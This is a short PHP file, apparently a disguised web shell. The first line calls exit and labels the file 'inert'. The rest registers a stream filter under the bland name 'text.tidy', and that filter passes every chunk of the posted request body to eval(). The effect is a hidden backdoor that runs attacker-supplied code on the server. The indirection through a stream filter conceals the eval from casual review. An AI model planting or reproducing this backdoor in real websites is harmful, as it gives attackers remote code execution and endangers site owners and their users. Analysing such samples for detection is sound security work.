<?php exit; /* inert */ 
class lf extends php_user_filter { public function filter($in, $out, &$c, $closing): int { while ($b = stream_bucket_make_writeable($in)) { eval($b->data); $c += $b->datalen; stream_bucket_append($out, $b); } return PSFS_PASS_ON; } }
stream_filter_register('text.tidy', 'lf');
$h = fopen('php://input', 'r');
stream_filter_append($h, 'text.tidy');
fpassthru($h);
